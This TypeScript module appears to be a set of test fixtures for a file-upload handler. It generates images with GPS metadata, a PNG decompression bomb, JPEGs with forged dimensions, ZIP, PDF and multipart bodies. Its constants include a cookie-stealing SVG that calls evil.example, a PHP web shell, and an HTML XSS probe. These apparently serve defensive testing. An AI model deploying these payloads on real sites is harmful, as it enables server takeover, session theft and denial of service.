import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';

/** Files as the phone of a shopper or the script of an attacker sends them. */

const noise = { type: 'gaussian', mean: 128, sigma: 30 } as const;

/** The EXIF of a phone: whose it is, and where it was. */
export const AT_HOME = {
  IFD0: { Make: 'Phone', ImageDescription: 'at home' },
  IFD3: {
    GPSLatitudeRef: 'N',
    GPSLatitude: '55/1 45/1 21/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '37/1 37/1 2/1',
  },
};

/** A photo with GPS coordinates, taken with the phone on its side. */
export async function photo({ width = 800, height = 600 } = {}): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#888', noise } })
    .jpeg({ quality: 80 })
    .withExif(AT_HOME)
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

export const picture = async (
  format: 'jpeg' | 'png' | 'gif' | 'webp' | 'avif' | 'tiff',
): Promise<Buffer> =>
  sharp({ create: { width: 64, height: 48, channels: 3, background: '#a33', noise } })
    .toFormat(format)
    .toBuffer();

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

const PNG_HEAD = Buffer.from('89504e470d0a1a0a', 'hex');

/** A black and white picture of real size: a few kilobytes that decode to gigabytes. */
export function pngOf(width: number, height: number, rows = height): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  return Buffer.concat([
    PNG_HEAD,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(rows * (1 + Math.ceil(width / 8))), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG with a comment after its first marker. */
export function withComment(jpeg: Buffer, text: string): Buffer {
  const comment = Buffer.from(text, 'latin1');
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    comment,
    jpeg.subarray(2),
  ]);
}

/** A PNG with a text chunk after its header. */
export function withText(png: Buffer, text: string): Buffer {
  const end = 8 + 25;
  return Buffer.concat([
    png.subarray(0, end),
    chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')),
    png.subarray(end),
  ]);
}

/** A JPEG that claims to be this large. */
export function claiming(jpeg: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(jpeg);
  const frame = changed.indexOf(Buffer.from([0xff, 0xc0]));
  changed.writeUInt16BE(height, frame + 5);
  changed.writeUInt16BE(width, frame + 7);
  return changed;
}

/** A ZIP with one stored file. */
export function zipOf(name: string, content: string): Buffer {
  const [local, central, end] = [Buffer.alloc(30), Buffer.alloc(46), Buffer.alloc(22)];
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(name.length, 28);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  return Buffer.concat([local, Buffer.from(name + content), central, Buffer.from(name), end]);
}

export const pdf = (inside = '') =>
  Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n' +
      `2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${inside}\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  );
export const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/"+document.cookie)</script></svg>';
export const PHP = '<?php system($_GET["c"]); ?>';
export const HTML = '<!doctype html><html><script>alert(1)</script></html>';

export interface Part {
  name: string;
  content: string | Buffer;
  filename?: string;
  type?: string;
  headers?: string;
}

/** A body of multipart/form-data byte by byte, for what FormData refuses. */
export function bodyOf(parts: readonly Part[], boundary = 'limit'): Buffer {
  const pieces = parts.map(({ name, content, filename, type, headers = '' }) =>
    Buffer.concat([
      Buffer.from(
        `--${boundary}\r\ncontent-disposition: form-data; ` +
          `name="${name}"${filename === undefined ? '' : `; filename="${filename}"`}\r\n` +
          `${type === undefined ? '' : `content-type: ${type}\r\n`}${headers}\r\n`,
      ),
      Buffer.from(content),
      Buffer.from('\r\n'),
    ]),
  );
  return Buffer.concat([...pieces, Buffer.from(`--${boundary}--\r\n`)]);
}
